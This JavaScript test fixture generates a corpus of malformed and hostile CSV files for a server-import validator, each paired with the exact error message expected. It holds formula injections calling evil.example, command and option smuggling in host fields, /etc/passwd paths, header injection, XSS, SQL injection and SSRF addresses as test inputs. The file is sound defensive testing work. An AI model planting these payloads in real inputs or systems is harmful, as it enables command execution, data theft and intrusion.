// csv_corpus: files of servers made in bad faith or by bad programs, each with what must be said of it.
//
//   for (const one of makeCorpus()) …   // { name, bytes, refused } or { name, bytes, rows, unknown }
//
// The same files every time. What is expected follows from how a file is made, never from reading it: `refused` is the
// sentence for the file as a whole, `rows` has one entry for each row with `index`, `line`, `given` (what must have been
// read) and `errors` (column and sentence, in order). Sentences are exact.

export const SECRET = '0f3c1d2e-aaaa-bbbb-cccc-123456789f3a';
export const TOKEN = `root@pam!bnc=${SECRET}`;
export const MAX_BYTES = 1 << 20;

const NEEDED = ['name', 'host', 'api_token'];
const OPTIONAL = ['port', 'verify_ssl', 'fingerprint', 'tags', 'site', 'notes', 'vpn_enabled', 'vpn_host', 'vpn_port', 'connection_timeout', 'enabled'];
const BOM = Buffer.from('\uFEFF');
const TEXTS = { name: 100, tags: 127, site: 63, notes: 255 }; // bytes each may have
const clip = (text, size) => { // as much of it as stands in a sentence: whole characters
  const bytes = Buffer.from(text);
  if (bytes.length <= size) return text;
  let end = size;
  while ((bytes[end] & 0xC0) === 0x80) end -= 1;
  return bytes.subarray(0, end).toString();
};

/** Bytes of a file and the line of each row. Cells are strings or Buffers; null leaves a row's cells away. */
function write(head, rows, { separator = ',', eol = '\n', mark = false, quote = 'needed', last = true } = {}) {
  const cell = (text) => {
    if (Buffer.isBuffer(text)) return text;
    const must = quote === 'always' || text === '' ? quote === 'always' : /^[\s]|[\s]$|["\r\n]/.test(text) || text.includes(separator);
    return Buffer.from(must ? `"${text.replaceAll('"', '""')}"` : text);
  };
  const line = (cells) => Buffer.concat(cells.flatMap((text, i) => (i ? [Buffer.from(separator), cell(text)] : [cell(text)])));
  const pieces = mark ? [BOM] : [];
  const lines = [];
  let at = 1;
  for (const [i, cells] of [head, ...rows].entries()) {
    const bytes = line(cells);
    lines.push(at);
    pieces.push(bytes);
    if (last || i < rows.length) pieces.push(Buffer.from(eol));
    at += 1 + bytes.filter((byte) => byte === 10).length;
  }
  return { bytes: Buffer.concat(pieces), lines: lines.slice(1) };
}

export function makeCorpus() {
  const files = [];
  const refuse = (name, bytes, refused, status = 400) => files.push({ name, bytes: Buffer.from(bytes), refused, status });

  /** A file of rows; `verdicts` has for each what was read of it and what is wrong with it. */
  const judge = (name, head, rows, verdicts, form, more = {}) => {
    const { bytes, lines } = write(head, rows, form);
    files.push({ name, bytes, unknown: [], ...more, rows: verdicts.map((it, i) => ({ index: i, line: lines[i], given: {}, errors: [], ...it })) });
  };
  /** One row in which only this cell is unusual, between two good ones that must come in all the same. */
  const cell = (column, value, { error = null, given = {}, name = JSON.stringify(clip(String(value), 40)), form = {} } = {}) => {
    const head = NEEDED.includes(column) ? NEEDED : [...NEEDED, column];
    const row = (i) => head.map((c) => ({ name: `good ${i}`, host: `good${i}.invalid`, api_token: TOKEN })[c] ?? '');
    const odd = head.map((c) => (c === column ? value : { name: 'odd', host: 'odd.invalid', api_token: TOKEN }[c]));
    const errors = error === null ? [] : [[column, error]];
    judge(`${column}: ${name}`, head, [row(0), odd, row(1)], [{ given: { name: 'good 0' } }, { given, errors }, { given: { name: 'good 1' } }], form);
  };

  /* Cells a spreadsheet would run, or that were guarded against it. */
  const formulas = ['=1+1', '+1', '-2+3', '@SUM(1,2)', "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example","click")', '=IMPORTXML("http://evil.example","//a")',
    '-1', '+49 30 1234', "'=1+1", "''=1+1", "'", '|calc', '=\u200B1', '＝1+1', '%=1', '=1\u2028=2', '"=1"', '=",;\\'];
  for (const column of Object.keys(TEXTS)) {
    for (const text of formulas) {
      const guarded = /^'+[=+\-@\t\r]/.test(text);
      cell(column, text, { given: { [column]: guarded ? text.slice(1) : text }, name: `the formula ${text}` });
    }
  }
  cell('notes', '\t=1+1', { given: { notes: '\t=1+1' }, name: 'a formula behind a tab' });
  cell('notes', '\r\n=1+1', { given: { notes: '\r\n=1+1' }, name: 'a formula behind a line end' });

  /* Bytes nobody sees. */
  for (const column of Object.keys(TEXTS)) {
    for (const code of [0x01, 0x07, 0x08, 0x0B, 0x1B, 0x1F, 0x7F, 0x09, 0x0A]) {
      const isTaken = column === 'notes' && (code === 0x09 || code === 0x0A);
      const hex = code.toString(16).toUpperCase().padStart(2, '0');
      const text = `a${String.fromCharCode(code)}[31mb`;
      cell(column, text, isTaken ? { given: { notes: text }, name: `the byte 0x${hex}` } : { error: `${column} must not hold the control character 0x${hex}`, name: `the byte 0x${hex}` });
    }
    for (const text of ['invoice\u202Egnp.exe', '\u2066\u2067turned', 'שרת', '👩‍👩‍👧‍👦', '<script>alert(1)</script>', '__proto__', '{{7*7}}', '%s%n%x', '../../etc/passwd', "'; DROP TABLE servers; --", '\u0085']) {
      cell(column, text, { given: { [column]: text } });
    }
    const max = TEXTS[column];
    cell(column, 'x'.repeat(max), { given: { [column]: 'x'.repeat(max) }, name: `${max} bytes` });
    cell(column, 'x'.repeat(max + 1), { error: `${column} must have at most ${max} bytes, got ${max + 1}`, name: `${max + 1} bytes` });
    cell(column, 'é'.repeat(max / 2 + 1), { error: `${column} must have at most ${max} bytes, got ${2 * Math.floor(max / 2 + 1)}`, name: 'a byte too many, in letters of two' });
    cell(column, TOKEN, { error: `${column} holds an API token: are the columns in order?`, name: 'a token' });
  }
  cell('name', '', { error: 'name is needed', name: 'nothing' });
  cell('name', ' \t ', { error: 'name is needed', name: 'blanks' });

  /* Bytes that are no text. */
  const bad = [['a continuation alone', [0x80], 0x80], ['an overlong slash', [0xC0, 0xAF], 0xC0], ['an overlong slash of three bytes', [0xE0, 0x80, 0xAF], 0x80],
    ['half of a pair', [0xED, 0xA0, 0x80], 0xA0], ['beyond U+10FFFF', [0xF4, 0x90, 0x80, 0x80], 0x90], ['a lead of five bytes', [0xF8], 0xF8],
    ['a byte that never is', [0xFE], 0xFE], ['Latin-1', [0xFC, 0x62], 0xFC], ['a character cut short', [0xE2, 0x82, 0x2C], 0x2C]];
  for (const [what, raw, byte] of bad) {
    const text = Buffer.from(raw);
    const why = (line) => `line ${line}: byte 0x${byte.toString(16).toUpperCase().padStart(2, '0')} is not UTF-8: save the file as "CSV UTF-8"`;
    refuse(`${what} in the header`, write([...NEEDED, Buffer.concat([Buffer.from('x'), text])], [['a', 'a.invalid', TOKEN, '']]).bytes, why(1));
    refuse(`${what} in a row`, write(NEEDED, [[Buffer.concat([Buffer.from('x'), text]), 'a.invalid', TOKEN]]).bytes, why(2));
    refuse(`${what} behind forty good rows`, write(NEEDED, [...Array.from({ length: 40 }, (_, i) => [`p${i}`, `p${i}.invalid`, TOKEN]), [Buffer.concat([Buffer.from('x'), text]), 'a.invalid', TOKEN]]).bytes, why(42));
  }
  const nul = 'a NUL byte: this is no CSV file in UTF-8';
  refuse('a NUL in a name', `name,host,api_token\na\0b,h,${TOKEN}\n`, `line 2: ${nul}`);
  refuse('a NUL at the end', `name,host,api_token\na,h.invalid,${TOKEN}\n\0`, `line 3: ${nul}`);
  refuse('UTF-16 without a mark', Buffer.from(`name,host,api_token\na,h,${TOKEN}\n`, 'utf16le'), `line 1: ${nul}`);
  for (const [what, first] of [['little', [0xFF, 0xFE]], ['big', [0xFE, 0xFF]]]) {
    refuse(`UTF-16, ${what} end first`, Buffer.concat([Buffer.from(first), Buffer.from('name,host', 'utf16le')]), 'line 1: this looks like UTF-16: save the file as "CSV UTF-8"');
  }
  refuse('the last character is cut', Buffer.concat([Buffer.from(`name,host,api_token\na,h,${TOKEN}\nb`), Buffer.from([0xE2, 0x82])]), 'line 3: the file ends in the middle of a character');
  refuse('a program', Buffer.from([0x7F, 0x45, 0x4C, 0x46, 2, 1, 1, 0, 0]), `line 1: ${nul}`);
  refuse('a workbook', Buffer.from('504b0304140006000800', 'hex'), `line 1: ${nul}`);

  /* Quotes that lead nowhere, after good rows and with each separator. */
  for (const s of [',', ';', '\t']) {
    const head = `name${s}host${s}api_token`;
    const good = `a${s}a.invalid${s}${TOKEN}\n`;
    const what = JSON.stringify(s);
    refuse(`a quote that is never closed, ${what}`, `${head}\n${good}"b${s}b.invalid${s}${TOKEN}\n`, 'line 3: the quote that opens column 1 is never closed');
    refuse(`a quote that opens at the end, ${what}`, `${head}\n${good}b${s}b.invalid${s}"`, 'line 3: the quote that opens column 3 is never closed');
    refuse(`a quote in the header, ${what}`, `name${s}host${s}"api_token\n${good}`, 'line 1: the quote that opens column 3 is never closed');
    refuse(`a quote inside a field, ${what}`, `${head}\n${good}b"c${s}b.invalid${s}${TOKEN}\n`, 'line 3: a quote inside column 1, which does not begin with one: quote the whole field and double the quote');
    refuse(`text behind a quote, ${what}`, `${head}\n${good}"b"c${s}b.invalid${s}${TOKEN}\n`, 'line 3: column 1 goes on after its closing quote: a quote inside a field is doubled');
    refuse(`a blank behind a quote, ${what}`, `${head}\n"b" ${s}b.invalid${s}${TOKEN}\n`, 'line 2: column 1 goes on after its closing quote: a quote inside a field is doubled');
    refuse(`a carriage return alone, ${what}`, `${head}\n${good}b\rc${s}b.invalid${s}${TOKEN}\n`, 'line 3: a carriage return without a line feed: lines must end in CRLF or LF');
    refuse(`lines of an old Macintosh, ${what}`, `${head}\r${good.replace('\n', '\r')}`, 'line 1: a carriage return without a line feed: lines must end in CRLF or LF');
  }

  /* Too much of something, to the byte. */
  const pad = (size) => { // a file of so many bytes
    const start = `name,host,api_token,x\n`;
    let text = start;
    for (let i = 0; text.length + 4096 < size; i++) text += `n${i},n${i}.invalid,${TOKEN},${'y'.repeat(3000)}\n`;
    text += `last,last.invalid,${TOKEN},`;
    return `${text}${'z'.repeat(Math.max(0, Math.min(4096, size - text.length - 1)))}\n`.padEnd(size, '\n');
  };
  refuse('one byte more than a mebibyte', pad(MAX_BYTES + 1), null, 413);
  refuse('a mebibyte of separators', ','.repeat(MAX_BYTES), 'line 1: more than 64 columns');
  refuse('a mebibyte of quotes', '"'.repeat(MAX_BYTES), 'line 1: the field in column 1 has more than 4096 bytes');
  refuse('a mebibyte of line ends', '\n'.repeat(MAX_BYTES), 'the file is empty: it needs a header and a row');
  refuse('a mebibyte without any', 'x'.repeat(MAX_BYTES), 'line 1: the field in column 1 has more than 4096 bytes');
  refuse('a mebibyte of remarks', `${'#'.repeat(1023)}\n`.repeat(1024), 'the file is empty: it needs a header and a row');
  refuse('10,001 rows', `name,host,api_token\n${'a,b,c\n'.repeat(10001)}`, 'line 10002: more than 10000 rows after the header');
  refuse('1,001 rows', `name,host,api_token\n${'a,b,c\n'.repeat(1001)}`, 'Cannot import 1001 servers: a file may have 1000 rows.');
  refuse('64 columns and one', `${[...NEEDED, ...Array.from({ length: 62 }, (_, i) => `c${i}`)].join(',')}\n`, 'line 1: more than 64 columns');
  refuse('a field of 4097 bytes', `name,host,api_token,x\na,a.invalid,${TOKEN},${'x'.repeat(4097)}\n`, 'line 2: the field in column 4 has more than 4096 bytes');
  refuse('nothing', '', null, 400);
  refuse('a mark', BOM, 'the file is empty: it needs a header and a row');
  refuse('blank lines', '\r\n\n\r\n', 'the file is empty: it needs a header and a row');
  refuse('a header', 'name,host,api_token\n', 'the file holds no row after its header');
  refuse('a header and rows of separators', 'name,host,api_token\n,,\n, ,\n', 'the file holds no row after its header');
  judge('the header twice', NEEDED, [NEEDED], [{ given: { name: 'name' }, errors: [['api_token', 'api_token must have the form USER@REALM!TOKENID=SECRET']] }]);
  judge('a field of 4096 bytes', [...NEEDED, 'x'], [['a', 'a.invalid', TOKEN, 'x'.repeat(4096)]], [{ given: { name: 'a' } }], {}, { unknown: ['x'] });

  /* Headers. */
  for (const missing of [['name'], ['host'], ['api_token'], ['name', 'host'], ['name', 'api_token'], ['host', 'api_token'], NEEDED]) {
    const head = [...NEEDED.filter((c) => !missing.includes(c)), 'port'];
    refuse(`no ${missing.join(' and ')}`, `${head.join(',')}\n${head.map(() => '1').join(',')}\n`, `line 1: the header lacks ${missing.join(', ')}`);
  }
  for (const column of [...NEEDED, ...OPTIONAL]) {
    const head = [...NEEDED, ...(NEEDED.includes(column) ? [] : [column]), ` ${column.toUpperCase()} `];
    refuse(`two columns ${column}`, `${head.join(',')}\n${head.map(() => 'x').join(',')}\n`, `line 1: column ${column} stands twice`);
  }
  for (const odd of ['=1+1', '<img src=x onerror=alert(1)>', '__proto__', 'is_demo', 'id', 'token', 'tenant', 'created_by', 'x'.repeat(200), '\u202Eeman', 'name\u200B', 'a b c', "'; --"]) {
    judge(`an unknown column ${JSON.stringify(odd.slice(0, 30))}`, [...NEEDED, odd], [['a', 'a.invalid', TOKEN, 'evil']], [{ given: { name: 'a', tags: null, site: null, notes: null } }], {}, { unknown: [clip(odd, 47)] });
  }

  /* Hosts. */
  const hostIs = (got) => `host must be a name or an IP address, got "${clip(got, 63)}"`;
  for (const host of ['h;reboot', '$(id)', '`id`', 'a b', "a'b", '-oProxyCommand=id', '-h', 'h-.lan', '.lan', 'a..b', '..', '*', '127.1', '2130706433', '0x7f.0.0.1', '0177.0.0.1', '1.2.3', '1.2.3.4.5', '256.0.0.1', 'a@b.lan', 'h?x', 'h#x', 'h\\x', '%31', 'h%00.lan', '../etc/passwd',
    `${'a'.repeat(64)}.lan`, 'fe80::1%eth0', ':::', '1::2::3', 'h\tx', 'h\nX-Injected: 1', '=1+1', '"h"']) {
    if (host === 'h\nX-Injected: 1') cell('host', host, { error: 'the port in host must be 1..65535, got " 1"' });
    else cell('host', host, { error: hostIs(host) });
  }
  for (const host of ['http://h', 'file:///etc/passwd', 'gopher://h', 'javascript://h', 'ssh://h']) cell('host', host, { error: `host must be called by https, got "${host}"` });
  cell('host', 'https://h/../admin', { error: 'host must not have a path, got "/../admin"' });
  cell('host', 'münchen.example', { error: 'host must be written in ASCII, as DNS has it (xn--…), got "münchen.example"' });
  cell('host', '[h]:1', { error: 'host must be like [fd00::1]:8006, got "[h]:1"' });
  cell('host', '[fd00::1', { error: 'host must be like [fd00::1]:8006, got "[fd00::1"' });
  cell('host', 'h:0', { error: 'the port in host must be 1..65535, got "0"' });
  cell('host', 'h:8006:x', { error: hostIs('h:8006:x') });
  cell('host', '', { error: 'host is needed', name: 'nothing' });
  const long = (n) => Array.from({ length: 5 }, (_, i) => String.fromCharCode(97 + i).repeat(60)).join('.').slice(0, n);
  cell('host', long(253), { given: { host: long(253) }, name: '253 characters' });
  cell('host', long(254), { error: 'host must have at most 253 characters, got 254', name: '254 characters' });
  for (const [host, text, why] of [['127.0.0.1', '127.0.0.1', 'this machine itself'], ['[::1]', '::1', 'this machine itself'], ['0.0.0.0', '0.0.0.0', null], ['169.254.169.254', '169.254.169.254', null],
    ['[fe80::1]', 'fe80::1', null], ['224.0.0.1', '224.0.0.1', null], ['[::ffff:127.0.0.1]', null, null], ['[2002:7f00:1::]', null, null], ['[64:ff9b::a9fe:a9fe]', null, null], ['[fd00:ec2::254]', null, null], ['100.100.100.200', null, null], ['[::]', null, null]]) {
    cell('host', host, { error: why ? `${text} is ${why}: --allow-target ${text} opens it` : /^[0-9a-f.:]+ is .+: --allow-target [0-9a-f.:]+ opens it$/ });
  }

  /* Numbers, switches, prints, tokens. */
  for (const port of ['0', '-1', '+1', '65536', '99999', '8006x', '8006.0', '8 006', '0x1F46', '1e3', '٨', '18446744073709559622', '=8006', '\u200B8006', 'NaN', '8006;']) {
    cell('port', port, { error: `port must be 1..65535, got "${clip(port, 47)}"` });
    cell('vpn_port', port, { error: `vpn_port must be 1..65535, got "${clip(port, 47)}"` });
  }
  for (const word of ['2', 'on', 'wahr', 'truee', '-1', 'null', 'TRUE FALSE']) {
    for (const column of ['verify_ssl', 'vpn_enabled', 'enabled']) cell(column, word, { error: `${column} must be true, false, yes, no, 1 or 0, got "${word}"` });
  }
  for (const time of ['4', '4.999', '120.001', '121', '-5', '10s', '7.', '7.1234', '1e1', '0x10', '∞', '99999999999999999999']) cell('connection_timeout', time, { error: `connection_timeout must be 5..120 seconds, got "${time}"` });
  for (const print of ['AA:BB', 'zz'.repeat(32), 'a'.repeat(63), `${'AA:'.repeat(31)}A`, 'sha256:x']) cell('fingerprint', print, { error: `fingerprint must be a SHA-256 of 32 pairs, like AA:BB:…, got "${clip(print, 47)}"` });
  const form = 'api_token must have the form USER@REALM!TOKENID=SECRET';
  for (const token of ['root', 'root@pam', 'root@pam!t', 'root@pam!=x', '@pam!t=x', `root@pam!t=${SECRET}\r\nHost: evil`, `root@pam!t=${SECRET} x`, `root@pam!t=${SECRET};x`, `Bearer ${SECRET}`, `root@pam!t=${'x'.repeat(600)}`, `röot@pam!t=${SECRET}`, SECRET]) {
    cell('api_token', token, { error: form, name: `${JSON.stringify(token.replace(SECRET, '…').slice(0, 40))}` });
  }
  cell('api_token', '', { error: 'api_token is needed, form USER@REALM!TOKENID=SECRET', name: 'nothing' });

  /* Rows that do not fit, beside rows that do. */
  for (const count of [1, 2, 4, 5, 10, 64]) {
    const cells = [`odd`, 'odd.invalid', TOKEN, ...Array(61).fill('x')].slice(0, count);
    judge(`a row of ${count} cells`, NEEDED, [['a', 'a.invalid', TOKEN], cells, ['b', 'b.invalid', TOKEN]],
      [{ given: { name: 'a' } }, { errors: [[null, `the row has ${count} fields where the header has 3`]] }, { given: { name: 'b' } }]);
  }
  for (const [a, b] of [['H.invalid', 'h.INVALID'], ['[fd00::1]', 'fd00:0:0:0:0:0:0:1'], ['10.0.0.1', '10.0.0.1:8006'], ['h.invalid', 'https://h.invalid:8006/']]) {
    judge(`the same place twice: ${a} and ${b}`, NEEDED, [['a', a, TOKEN], ['b', b, TOKEN], ['c', 'c.invalid', TOKEN]],
      [{ given: { name: 'a' } }, { given: { name: 'b' }, errors: [['host', 'the same host and port as row 1 (line 2)']] }, { given: { name: 'c' } }]);
  }
  judge('everything wrong at once', [...NEEDED, 'port', 'verify_ssl', 'connection_timeout'], [['', 'h h', 'root@pam', '0', 'maybe', '3'], ['a', 'a.invalid', TOKEN, '', '', '']],
    [{ errors: [['host', hostIs('h h')], ['api_token', form], ['port', 'port must be 1..65535, got "0"'], ['verify_ssl', 'verify_ssl must be true, false, yes, no, 1 or 0, got "maybe"'], ['connection_timeout', 'connection_timeout must be 5..120 seconds, got "3"'], ['name', 'name is needed']] }, { given: { name: 'a' } }]);
  judge('fifty rows, each other one wrong', NEEDED, Array.from({ length: 50 }, (_, i) => [`p${i}`, i % 2 ? 'h h' : `p${i}.invalid`, TOKEN]),
    Array.from({ length: 50 }, (_, i) => (i % 2 ? { given: { name: `p${i}` }, errors: [['host', hostIs('h h')]] } : { given: { name: `p${i}`, host: `p${i}.invalid` } })));

  /* What programs write, in every form: all of it is taken and says the same. */
  for (const separator of [',', ';', '\t']) {
    for (const eol of ['\n', '\r\n']) {
      for (const mark of [false, true]) {
        for (const quote of ['needed', 'always']) {
          for (const last of [true, false]) {
            judge(`good: ${JSON.stringify({ separator, eol, mark, quote, last })}`, [...NEEDED, 'tags', 'notes'],
              [['a, "b"; c', 'a.invalid', TOKEN, '=x', 'one\r\ntwo'], [' b ', 'b.invalid', TOKEN, 'u,v', `say ""x""\t${separator}`], ['c', 'c.invalid', TOKEN, '', '']],
              [{ given: { name: 'a, "b"; c', tags: '=x', notes: 'one\r\ntwo' } }, { given: { name: ' b ', tags: 'u,v', notes: `say ""x""\t${separator}` } }, { given: { name: 'c', tags: null, notes: null } }],
              { separator, eol, mark, quote, last });
          }
        }
      }
    }
  }
  return files;
}
